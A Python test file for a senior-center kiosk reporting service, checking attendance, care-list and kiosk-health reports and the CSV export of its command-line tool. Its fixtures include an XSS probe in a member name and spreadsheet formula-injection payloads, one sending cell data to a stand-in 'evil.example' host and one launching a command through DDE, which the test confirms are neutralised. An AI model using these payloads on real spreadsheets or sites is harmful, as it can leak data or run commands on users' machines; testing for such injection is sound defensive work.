"""The bureau's reports (bureau/reports.py) and `python -m bureau report`, on both stores, over
facts pushed through the real server as kiosks send them and turned into rows by bureau.rules."""

import csv
import io
import time
import unicodedata
from datetime import date, datetime, timedelta

import pytest

from bureau import admin, reports, rules
from bureau.reports import Activity, CareRow, ItemCount, Negative
from bureau.store import utcnow
from tests.kiosk.builders import MEMBER_PREFIX

from .conftest import SITE, Client, batch, cli, fact

OTHER = "DEMO-002"
TODAY = date(2026, 11, 21)


def member(no: str, name: str, site: str, joined: str, id_hash: str, active: bool = True) -> dict:
    return {
        "member_no": no,
        "name": name,
        "gender": "女",
        "id_hash": id_hash,
        "phone_last4": "6688",
        "site": site,
        "joined": joined,
        "active": active,
        "at": f"{joined}T08:00:00",
    }


def signin(no: str, site: str, kiosk_id: str, title: str, start: str, item_id: int = 1) -> dict:
    at = datetime.fromisoformat(start) - timedelta(minutes=5)
    return {
        "member_no": no,
        "kind": "lesson",
        "item_id": item_id,
        "title": title,
        "start": start,
        "at": at.isoformat(),
        "method": "qr",
        "kiosk_id": kiosk_id,
        "site": site,
    }


def device(kiosk_id: str, site: str, state: str, faults: int, error: str, at: str) -> dict:
    return {
        "device": "身份证读卡器",
        "kind": "idcard",
        "port": "/dev/ttyUSB0",
        "state": state,
        "reads": 40,
        "faults": faults,
        "disconnects": faults,
        "last_error": error,
        "at": at,
        "kiosk_id": kiosk_id,
        "site": site,
    }


def column(line: str, token: str) -> int:
    """The screen column `token` starts at in `line`."""
    return sum(2 if unicodedata.east_asian_width(c) in "WF" else 1 for c in line[: line.index(token)])


def push(
    client: Client,
    payloads: list[tuple[str, dict]],
    *,
    head_seq: int | None = None,
    version: str = "0.3.1",
    **overrides,
) -> None:
    """The facts as one push from seq 1 (`overrides`: fields of the fact at that seq)."""
    events = [
        fact(seq, kind, payload, **overrides.get(f"seq{seq}", {})) for seq, (kind, payload) in enumerate(payloads, 1)
    ]
    body = batch(client.kiosk_id, events, client_version=version)
    if head_seq is not None:
        body["head_seq"] = head_seq
    reply = client.push(body)
    assert reply.status_code == 200, reply.text


@pytest.fixture
def bureau(server, kiosk, client):
    """Two sites: DEMO-001 with kiosks K01 (pushes) and K02 (revoked), DEMO-002 with K01 (pushes)
    and K02 (never heard from).  The rules have read every fact."""
    admin.add_site(OTHER, "东城街道长者服务站", prefix="DC")
    revoked = admin.add_kiosk(SITE)
    admin.revoke(revoked.kiosk_id)
    other = admin.add_kiosk(OTHER)
    admin.add_kiosk(OTHER)
    k1 = kiosk.kiosk_id
    push(
        client,
        [
            ("member", member("XC0001", "王建华", SITE, "2026-01-10", "h-wang")),
            ("member", member("XC0002", "李秀英", SITE, "2026-10-30", "h-li")),
            ("member", member("XC0003", "张<script>alert(1)</script>", SITE, "2026-01-01", "h-zhang")),
            ("member", member("XC0004", "刘桂兰", SITE, "2026-01-01", "h-liu", active=False)),
            ("member", member("XC0005", "陈国栋", SITE, "2026-11-10", "h-chen")),
            ("signin", signin("XC0001", SITE, k1, "太极拳", "2026-11-20T09:00:00")),
            ("signin", signin("XC0001", SITE, k1, "太极拳", "2026-11-21T09:00:00")),
            ("signin", signin("XC0002", SITE, k1, "太极拳", "2026-11-21T09:00:00")),
            ("device", device(k1, SITE, "ok", 0, "", "2026-11-20T08:00:00")),
            ("device", device(k1, SITE, "absent", 3, "串口无响应", "2026-11-21T08:30:00")),
            ("no_such_kind", {"x": 1}),  # refused: one reject
            ("audit", {"action": "login", "target": "staff 1", "reason": "", "at": "2026-11-21T08:00:00"}),
        ],
        head_seq=20,
        seq12={"wall_ms": int(time.time() * 1000) - 3_600_000},
    )  # a clock an hour slow
    with Client(server.url, other.kiosk_id, other.key) as c:
        push(
            c,
            [
                ("member", member("DC0001", "王建华", OTHER, "2026-11-01", "h-wang")),  # the same person
                ("member", member("DC0002", "赵德明", OTHER, "2026-02-01", "h-zhao")),
                ("signin", signin("DC0001", OTHER, other.kiosk_id, "书法", "2026-11-21T14:00:00")),
                ("signin", signin("DC0002", OTHER, other.kiosk_id, "书法", "2026-10-01T14:00:00")),
                (
                    "points",
                    {
                        "member_no": "DC0002",
                        "amount": -5,
                        "kind": "redeem",
                        "rule": "redeem",
                        "at": "2026-11-02T10:00:00",
                        "kiosk_id": other.kiosk_id,
                        "site": OTHER,
                    },
                ),
            ],
            version="0.2.9",
        )
    rules.catch_up()
    return {"k1": k1, "revoked": revoked.kiosk_id, "other": other.kiosk_id}


# Each test starts a real server (seconds on a loaded machine): the figures share two tests.


def test_attendance_active_seniors_and_the_care_list(bureau):
    check_attendance()
    check_active_seniors()
    check_care_list()


def test_kiosk_health_points_and_the_cli(bureau, store_url, tmp_path):
    check_kiosk_health(bureau)
    assert reports.points_overview() == [Negative("DC0002", "赵德明", OTHER, -5)]
    check_cli(bureau, store_url, tmp_path)


def check_attendance():
    november = reports.attendance(date(2026, 11, 1), date(2026, 11, 30))
    assert [(s.code, s.signins, s.members, s.days) for s in november] == [
        (SITE, 3, 2, [(date(2026, 11, 20), 1), (date(2026, 11, 21), 2)]),
        # The alias DC0001 signs in as its canonical member XC0001, counted where it signed in.
        (OTHER, 1, 1, [(date(2026, 11, 21), 1)]),
    ]
    assert november[0].items == [
        ItemCount("太极拳", datetime(2026, 11, 20, 9), 1),
        ItemCount("太极拳", datetime(2026, 11, 21, 9), 2),
    ]
    assert november[1].items == [ItemCount("书法", datetime(2026, 11, 21, 14), 1)]
    (other,) = reports.attendance(date(2026, 10, 1), date(2026, 10, 1), OTHER)
    assert (other.code, other.signins, other.members, other.days) == (OTHER, 1, 1, [(date(2026, 10, 1), 1)])
    assert [s.signins for s in reports.attendance(date(2026, 11, 22), date(2026, 12, 31))] == [0, 0]
    # The overview's totals alone: the same counts, no days or items read.
    totals = reports.attendance(date(2026, 11, 1), date(2026, 11, 30), detail=False)
    assert [(s.code, s.signins, s.members, s.days, s.items) for s in totals] == [
        (s.code, s.signins, s.members, [], []) for s in november
    ]
    with pytest.raises(reports.UnknownSite):
        reports.attendance(TODAY, TODAY, "NOPE")


def check_active_seniors():
    # Registered: XC0001-3 and XC0005 at DEMO-001 (XC0004 is inactive), DC0002 at DEMO-002 (DC0001
    # is merged into XC0001).  Active in 30 days: XC0001 and XC0002, by their home site.
    assert reports.active_seniors(30, TODAY) == [
        Activity(SITE, "示范区老干部活动中心", 2, 4),
        Activity(OTHER, "东城街道长者服务站", 0, 1),
        Activity("", reports.TEXT["all_sites"], 2, 5),
    ]
    assert [(a.active, a.registered) for a in reports.active_seniors(60, TODAY)] == [(2, 4), (1, 1), (3, 5)]
    assert reports.active_seniors(1, date(2026, 11, 20))[0].active == 1
    assert reports.active_seniors(30, TODAY)[0].rate == 0.5


def check_care_list():
    # XC0003 never came (joined in January); DC0002 last came on 1 October.  XC0005 joined 11 days
    # ago: not yet.  Inactive and merged numbers are not listed.
    never = CareRow("XC0003", "张<script>alert(1)</script>", "6688", SITE, date(2026, 1, 1), None)
    gone = CareRow("DC0002", "赵德明", "6688", OTHER, date(2026, 2, 1), date(2026, 10, 1))
    assert reports.care_list(4, TODAY) == [never, gone]
    assert reports.care_list(4, TODAY, OTHER) == [gone]
    assert reports.care_list(8, TODAY) == [never]
    assert [r.member_no for r in reports.care_list(1, date(2026, 12, 31))] == [
        "XC0003",
        "XC0005",
        "DC0002",
        "XC0001",
        "XC0002",
    ]
    # The bureau's view of it: how many each site's list holds, every site, from one count.
    for weeks, as_of in ((4, TODAY), (8, TODAY), (1, date(2026, 12, 31)), (520, TODAY)):
        listed = reports.care_list(weeks, as_of)
        assert reports.care_counts(weeks, as_of) == [
            (SITE, "示范区老干部活动中心", sum(r.site == SITE for r in listed)),
            (OTHER, "东城街道长者服务站", sum(r.site == OTHER for r in listed)),
        ]
    assert [n for _, _, n in reports.care_counts(1, date(2026, 12, 31))] == [4, 1]


def check_kiosk_health(bureau: dict):
    now = utcnow()
    health = {k.kiosk_id: k for k in reports.kiosk_health(now)}
    assert list(health) == [bureau["k1"], bureau["revoked"], bureau["other"], f"{OTHER}-K02"]
    k1 = health[bureau["k1"]]
    assert (k1.site, k1.silent, k1.backlog, k1.rejects, k1.skewed, k1.version, k1.epoch, k1.revoked) == (
        SITE,
        False,
        8,
        1,
        1,
        "0.3.1",
        1,
        False,
    )
    assert now - k1.last_seen < timedelta(minutes=1)
    assert [(d.device, d.state, d.faults, d.last_error, d.at) for d in k1.devices] == [
        ("身份证读卡器", "absent", 3, "串口无响应", datetime(2026, 11, 21, 8, 30))
    ]
    assert k1.needs_attention
    revoked, other, unheard = health[bureau["revoked"]], health[bureau["other"]], health[f"{OTHER}-K02"]
    assert (revoked.revoked, revoked.silent, revoked.needs_attention) == (True, False, False)
    assert (other.silent, other.backlog, other.rejects, other.skewed, other.version, other.devices) == (
        False,
        0,
        0,
        0,
        "0.2.9",
        [],
    )
    assert not other.needs_attention
    assert (unheard.last_seen, unheard.silent, unheard.needs_attention) == (None, True, True)
    later = {k.kiosk_id: k for k in reports.kiosk_health(now + timedelta(hours=25))}
    assert later[bureau["other"]].silent and later[bureau["k1"]].silent
    assert later[bureau["k1"]].skewed == 1
    assert {k.skewed for k in reports.kiosk_health(now + timedelta(days=8))} == {0}


def check_cli(bureau: dict, store_url: str, tmp_path):
    text = cli(store_url, "report", "attendance", "--from", "2026-11-01", "--to", "2026-11-30", cwd=tmp_path)
    assert text.returncode == 0, text.stderr
    lines = text.stdout.splitlines()
    assert lines[0].split() == ["站点", "站点名称", "签到人次", "签到人数"]
    assert lines[2].split() == [SITE, "示范区老干部活动中心", "3", "2"]
    # Columns line up on screen, where a Chinese character is two columns wide.
    assert column(lines[0], "签到人次") == column(lines[2], "3")

    out = cli(store_url, "report", "care", "--weeks", "4", "--csv", cwd=tmp_path)
    assert out.returncode == 0, out.stderr
    assert out.stdout.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(out.stdout[1:])))
    assert rows[0] == ["会员号", "姓名", "手机尾号", "站点", "最近签到", "登记日期"]
    assert [r[0] for r in rows[1:]] == [r.member_no for r in reports.care_list(4, date.today())]

    kiosks = cli(store_url, "report", "kiosks", "--csv", cwd=tmp_path)
    tables = kiosks.stdout[1:].split("\n\n")  # (text mode reads CRLF as LF)
    assert [r[:2] for r in csv.reader(io.StringIO(tables[1]))] == [["签到机", "设备名"], [bureau["k1"], "身份证读卡器"]]

    refused = cli(store_url, "report", "care", "--site", "NOPE", cwd=tmp_path)
    assert (refused.returncode, refused.stdout) == (2, "")
    assert "unknown site NOPE" in refused.stderr


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]


def test_a_csv_report_holds_no_formula(server, kiosk, client, store_url, tmp_path):
    """Names and titles a kiosk sent that Excel would evaluate come out of --csv behind a ',
    so a spreadsheet shows them as text."""
    members = [
        ("member", member(f"{MEMBER_PREFIX}01{i:02d}", name, SITE, "2026-01-01", f"h-{i}"))
        for i, name in enumerate(FORMULAS)
    ]
    lesson = signin(f"{MEMBER_PREFIX}0199", SITE, kiosk.kiosk_id, FORMULAS[3], "2026-11-20T09:00:00")
    wang = member(f"{MEMBER_PREFIX}0199", "王建华", SITE, "2026-01-01", "h-99")
    push(client, [*members, ("member", wang), ("signin", lesson)])
    rules.catch_up()

    care = cli(store_url, "report", "care", "--weeks", "4", "--csv", cwd=tmp_path)
    assert care.returncode == 0, care.stderr
    rows = list(csv.reader(io.StringIO(care.stdout.removeprefix("\ufeff"))))
    names = {r[0]: r[1] for r in rows[1:]}
    assert {no: names[no] for no in names if no != wang["member_no"]} == {
        f"{MEMBER_PREFIX}01{i:02d}": "'" + name for i, name in enumerate(FORMULAS)
    }
    attendance = cli(
        store_url, "report", "attendance", "--from", "2026-11-01", "--to", "2026-11-30", "--csv", cwd=tmp_path
    )
    items = list(csv.reader(io.StringIO(attendance.stdout.split("\n\n")[2])))
    assert items[1][:2] == [SITE, "'-2+3"]
